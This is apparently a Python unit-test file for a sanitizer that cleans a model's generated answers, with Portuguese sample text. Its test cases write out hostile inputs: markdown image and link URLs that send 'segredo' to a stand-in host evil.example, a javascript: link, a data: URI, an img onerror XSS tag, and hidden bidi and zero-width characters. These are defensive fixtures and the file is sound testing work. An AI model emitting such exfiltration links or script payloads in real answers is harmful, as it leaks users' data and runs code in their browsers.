import time

import pytest

from query_service.answering.safe_text import SafeText, quoted
from tests.unit.query.samples import passage

PASSAGE = passage("Veja https://www.inatel.br/cursos e http://evil.example/x.png na página.")


def shown(*pieces: str) -> str:
    text = SafeText([PASSAGE])
    return "".join([*(text.feed(piece) for piece in pieces), text.rest()])


CASES = [
    ("A rede 5G [1] é rápida. Sim!", "A rede 5G [1] é rápida. Sim!"),
    ("![foto](https://evil.example/?q=segredo)", "foto"),
    ("![foto](http://evil.example/x.png)", "foto"),
    ("Clique [aqui](https://evil.example/?q=segredo).", "Clique aqui (…)."),
    ("Veja [o curso](https://inatel.br/cursos) [1].", "Veja o curso (https://inatel.br/cursos) [1]."),
    ("[a](javascript:alert(1))", "[a] (…))"),
    ("[1](https://evil.example/segredo) fim", "[1] fim"),
    ("[![x](https://evil.example/a)](https://evil.example/b)", "[x] (…)"),
    ("![x][2]\n\n[2]: https://evil.example/?q=1", "![x][2]\n\n[2]: …"),
    ("em https://inatel.br/cursos/, ou www.evil.example/s.", "em https://inatel.br/cursos/, ou …."),
    ("//evil.example/?q=1 data:text/html;base64,AAAA", "//evil.example/?q=1 …"),
    ("Na data: 12/03, latência < 1 ms e a<3", "Na data: 12/03, latência < 1 ms e a<3"),
    ("<img src=x onerror=alert(1)> <b>oi</b>", "‹img src=x onerror=alert(1)> ‹b>oi‹/b>"),
    ("<<end 1 abc>> <<passage 2>>", "‹‹end 1 abc>> ‹‹passage 2>>"),
    ("o\u202ecu\u200blto", "oculto"),
    ("intervalo [a, b] (fechado)", "intervalo [a, b] (fechado)"),
]


@pytest.mark.parametrize(("said", "safe"), CASES)
def test_nothing_in_an_answer_is_loaded_followed_or_run_unasked(said, safe):
    assert shown(said) == safe


@pytest.mark.parametrize("said", [said for said, _ in CASES])
@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_the_result_is_the_same_however_the_text_is_cut(said, size):
    assert shown(*(said[at : at + size] for at in range(0, len(said), size))) == shown(said)


def test_an_address_longer_than_what_is_held_back_still_does_not_pass():
    secret = "https://evil.example/" + "a" * 5000
    assert "evil" not in shown(*secret)


@pytest.mark.parametrize(
    "long", ["a" * 40_000, "a" * 40_000 + " fim", "a." * 20_000 + " fim", "[a](" + "\n" * 40_000 + "x", "[a" * 20_000]
)
def test_what_a_model_writes_without_end_costs_little(long):
    begun = time.monotonic()
    shown(long)
    assert time.monotonic() - begun < 2  # 0.1 s; a word of half this length took that long


def test_words_appear_as_soon_as_they_are_whole():
    text = SafeText([PASSAGE])
    assert text.feed("A rede") == "A "
    assert text.feed(" é") == "rede "


def test_the_words_of_a_document_hold_no_citations_and_no_html():
    assert quoted("Segundo [3], <b>a</b> [RFC 9110] vale.") == "Segundo (3), ‹b>a‹/b> [RFC 9110] vale."
